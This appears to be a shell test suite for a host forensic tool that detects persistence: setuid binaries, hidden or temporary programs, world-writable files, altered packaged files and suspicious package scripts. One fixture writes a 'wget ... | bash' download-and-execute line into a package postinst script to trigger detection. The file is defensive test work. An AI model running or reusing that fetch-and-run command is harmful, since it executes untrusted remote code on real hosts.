# t-files-power.sh - files with power: what the database of packages says
# plain
. "$(dirname "$0")/lib.sh"
. "$TESTS/stores/lib.sh"
cd "$T" || exit 1

# ---- a host: one package with programs, and what is of none
mkdir -p r/etc/alternatives r/usr/bin r/usr/sbin r/usr/local/bin r/usr/lib \
	r/var/lib/dpkg/info r/tmp r/var/cache/.x r/opt/.y r/home/a/.z \
	r/usr/share/d
echo root:x:0:0::/root:/bin/sh >r/etc/passwd
printf '%s\n' 'Package: tool' 'Status: install ok installed' 'Version: 1' \
	'Architecture: all' 'Description: x' '' >r/var/lib/dpkg/status
for f in su pick plain; do
	printf '#!/bin/sh\necho %s\n' $f >r/usr/bin/$f
	chmod 755 r/usr/bin/$f
done
{
	printf '/.\n/usr\n/usr/bin\n'
	printf '/usr/bin/%s\n' su pick plain
} >r/var/lib/dpkg/info/tool.list
(cd r && md5sum usr/bin/* >var/lib/dpkg/info/tool.md5sums)
echo '# changed' >>r/usr/bin/pick
for f in usr/bin/foreign usr/local/bin/su tmp/run var/cache/.x/run \
	opt/.y/run home/a/.z/run usr/lib/suid usr/lib/open; do
	printf '#!/bin/sh\n' >r/$f
	chmod 755 r/$f
done
chmod 4755 r/usr/bin/su r/usr/bin/pick r/usr/lib/suid
chmod 666 r/usr/lib/open
echo data >r/usr/share/d/open
chmod 666 r/usr/share/d/open
mkdir r/usr/share/e r/usr/share/f
chmod 777 r/usr/share/e
chmod 1777 r/usr/share/f
ln -s /usr/bin/plain r/etc/alternatives/plain
ln -s /usr/local/bin/su r/etc/alternatives/su
ln -s /nowhere r/etc/alternatives/gone
ln -s ../../bin/plain r/usr/local/bin/plain

says() { # ROOT OPTIONS...
	"$BIN/collect-files" -r "$@" 2>err >rec
	jq -r 'select(.k == "file" and (.package or .package_state)) |
		[.path, .package // "-", .package_state // "-"] | join(" ")' rec
}
want="/etc/alternatives/plain tool -
/etc/alternatives/su - unpackaged
/opt/.y/run - unpackaged
/tmp/run - unpackaged
/usr/bin/foreign - unpackaged
/usr/bin/pick tool changed
/usr/bin/plain tool -
/usr/bin/su tool unchanged
/usr/lib/open - unpackaged
/usr/lib/suid - unpackaged
/usr/local/bin/plain tool -
/usr/local/bin/su - unpackaged
/usr/share/d/open - unpackaged
/var/cache/.x/run - unpackaged"
is "files with power, and nobody else" "$(says r)" "$want"
is "what everybody may write is taken" "$(jq -r 'select(.why == "writable").path' rec)" \
	"/usr/lib/open
/usr/share/d/open
/usr/share/e"
sha256sum <r/usr/lib/suid | cut -d' ' -f1 >list
is "a list of known digests overrules" "$(says r --known-good list | grep /suid)" \
	"/usr/lib/suid - known"
is "one processor gives the same" "$(taskset -c 0 "$BIN/collect-files" -r r 2>err | volatile | sha256sum)" \
	"$("$BIN/collect-files" -r r 2>err | volatile | sha256sum)"
match() { # CASE ROOT: what the pack persistence says, with a rule a line
	for c in collect-packages collect-files; do
		"$BIN/case-ingest" "$1" -- "$BIN/$c" -r "$2" 2>>err
	done
	"$BIN/case-match" --iocs "$TOP/iocs" "$1" 2>>err |
		jq -r 'select(.k == "finding" and .scope == "host") |
			[.rule, .severity, .path // "-"] | join(" ")' | sort
}
cp /bin/true r/usr/bin/elf
is "findings" "$(match a.db r)" "persistence/alternative medium /etc/alternatives/su
persistence/changed-program high /usr/bin/pick
persistence/foreign-command medium /usr/bin/elf
persistence/foreign-command medium /usr/bin/foreign
persistence/hidden-program medium /opt/.y/run
persistence/hidden-program medium /var/cache/.x/run
persistence/name-taken medium /usr/local/bin/su
persistence/setuid-file medium /usr/bin/pick
persistence/setuid-file medium /usr/lib/suid
persistence/temporary-program medium /tmp/run
persistence/world-writable medium /usr/lib/open
persistence/world-writable medium /usr/share/d/open
persistence/world-writable medium /usr/share/e"
is "no rule fails" "$(grep -c 'failed after' err)" 0

# ---- a long script of a package is read as far as limits go, and no trouble
cp -a r long
{
	echo '#!/bin/sh'
	echo 'wget -qO- http://192.0.2.1/i | bash'
	awk 'BEGIN { for (i = 0; i < 6000; i++) print "echo one more line of a long script" }'
} >long/var/lib/dpkg/info/tool.postinst
: >err
"$BIN/case-ingest" l.db -- "$BIN/collect-packages" -r long 2>>err
is "a long script" "$("$BIN/case-match" --iocs "$TOP/iocs" l.db 2>>err |
	jq -r 'select(.rule == "persistence/package-script").path')" \
	/var/lib/dpkg/info/tool.postinst
is "is no trouble" "$(grep -c 'failed after' err)" 0

# ---- a sibling explains what is the same there
cp -a r r2
printf 'x\n' >>r2/usr/lib/suid
chmod 4755 r2/usr/lib/suid
echo '# and more' >>r2/usr/bin/pick
chmod 4755 r2/usr/bin/pick
for c in collect-packages collect-files; do
	"$BIN/case-ingest" c.db -- "$BIN/$c" -r r2 2>>err
done
"$BIN/case-match" --iocs "$TOP/iocs" --baseline a.db c.db 2>>err |
	jq -r 'select(.k == "finding" and .effect != "note") |
		[.rule, .path] | join(" ")' | sort >got
is "what differs from the sibling stays" "$(cat got)" \
	"persistence/changed-program /usr/bin/pick
persistence/setuid-file /usr/bin/pick
persistence/setuid-file /usr/lib/suid"
rm -r r/var/lib/dpkg
is "nothing tells foreign from packaged" \
	"$(match b.db r | grep no-package)" "persistence/no-package-database medium -"
rm r/usr/bin/elf
is "without a database nobody knows" "$(says r | cut -d' ' -f2- | sort -u)" "- unknown"

if [ "$ROOTED" = 1 ]; then
	mkdir -p f/etc f/var/lib/dpkg/info f/opt
	printf 'Package: t\nStatus: install ok installed\nVersion: 1\n\n' >f/var/lib/dpkg/status
	printf '/.\n' >f/var/lib/dpkg/info/t.list
	echo x >f/opt/capable
	echo x >f/etc/frozen
	n=0
	setcap cap_setuid=ep f/opt/capable 2>/dev/null && n=$((n + 1))
	chattr +i f/etc/frozen 2>/dev/null && n=$((n + 1))
	if [ $n = 2 ]; then
		is "capabilities and flags" "$(says f)" "/etc/frozen - unpackaged
/opt/capable - unpackaged"
	else
		skip "capabilities and flags" "cannot be set here"
	fi
	chattr -i f/etc/frozen 2>/dev/null
else
	skip "capabilities and flags" "need root"
fi

# ---- a container: the database of its own stack, for its own layer only
tiny_store s
mkdir -p s/overlay2/layer1/diff/lib/apk/db s/overlay2/layer1/diff/bin \
	s/overlay2/upper/diff/opt s/overlay2/upper/diff/bin
printf 'C:Q1AAAAAAAAAAAAAAAAAAAAAAAAAAA=\nP:box\nV:1\nA:x\nF:bin\nR:ping\n\n' \
	>s/overlay2/layer1/diff/lib/apk/db/installed
for f in layer1/diff/bin/ping layer1/diff/bin/own upper/diff/bin/ping \
	upper/diff/opt/back; do
	echo x >s/overlay2/$f
	chmod 4755 s/overlay2/$f
done
"$BIN/collect-files" -r s 2>err >rec
is "a container's own layer" "$(jq -r 'select(.k == "file" and .package_state) |
	[.origin, .path, .package // "-", .package_state] | join(" ")' rec | sort)" \
	"container /bin/ping box unknown
container /opt/back - unpackaged"
finish
